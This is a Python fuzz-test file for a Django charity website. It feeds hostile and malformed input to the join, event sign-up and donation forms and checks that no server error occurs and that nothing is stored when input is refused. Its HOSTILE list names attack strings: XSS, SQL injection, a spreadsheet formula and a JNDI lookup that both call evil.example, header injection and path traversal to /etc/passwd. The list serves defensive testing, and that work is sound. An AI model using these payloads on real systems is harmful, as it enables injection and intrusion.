"""The public forms fed long, malformed and hostile input: never a server error, and
nothing stored from input they refuse."""

import itertools

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from donations.models import Donation
from events.models import Rsvp
from tests.donations.helpers import form_data
from tests.events.factories import EventFactory
from volunteers.models import Consent, Supporter

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    '=HYPERLINK("http://evil.example")',
    "\x00",
    "a\x00b@example.org",
    "\u202egnp.exe",
    "😀" * 200,
    "x" * 10_000,
    "sam@example.org\r\nBcc: everyone@example.org",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
]
text = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=400))
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
addresses = itertools.count(1)


def from_new_address():
    """Each example comes from its own address, so the rate limits do not mask validation."""
    n = next(addresses)
    return {"REMOTE_ADDR": f"198.51.100.{n % 250 + 1}" if n < 250 else f"203.0.113.{n % 250 + 1}"}


def refused(response) -> bool:
    return response.status_code not in (301, 302, 303)


@FUZZ
@given(email=text, name=text, postcode=text, phone=text, updates=st.sampled_from(["on", "", "x"]))
def test_join_form(client, email, name, postcode, phone, updates):
    before = (Supporter.objects.count(), Consent.objects.count())

    response = client.post(
        "/join/",
        {
            "email": email,
            "name": name,
            "postcode": postcode,
            "phone": phone,
            "wants_updates": updates,
        },
        **from_new_address(),
    )

    assert response.status_code < 500
    if refused(response):
        assert (Supporter.objects.count(), Consent.objects.count()) == before


@pytest.fixture
def session():
    return EventFactory(capacity=5)


@FUZZ
@given(first_name=text, email=text, phone=text, join=st.sampled_from(["on", "", "yes"]))
def test_session_sign_up_form(client, session, first_name, email, phone, join):
    before = (Rsvp.objects.count(), Supporter.objects.count())

    response = client.post(
        f"/events/{session.slug}/",
        {"first_name": first_name, "email": email, "phone": phone, "join_mailing_list": join},
        **from_new_address(),
    )

    assert response.status_code < 500
    if refused(response):
        assert (Rsvp.objects.count(), Supporter.objects.count()) == before


@FUZZ
@given(
    amount=st.one_of(st.sampled_from(["2500", "-1", "0", "99999999999", "1e9", "NaN"]), text),
    other=text,
    frequency=st.one_of(st.sampled_from(["one_off", "monthly"]), text),
    name=text,
    email=text,
    address=text,
    postcode=text,
)
def test_donate_form(client, stripe_fake, amount, other, frequency, name, email, address, postcode):
    data = form_data(
        client,
        amount=amount,
        other_amount=other,
        frequency=frequency,
        name=name,
        email=email,
        address_line1=address,
        town="Derby",
        postcode=postcode,
    )
    before = Donation.objects.count()

    response = client.post("/donate/", data, **from_new_address())

    assert response.status_code < 500
    if refused(response):
        assert Donation.objects.count() == before
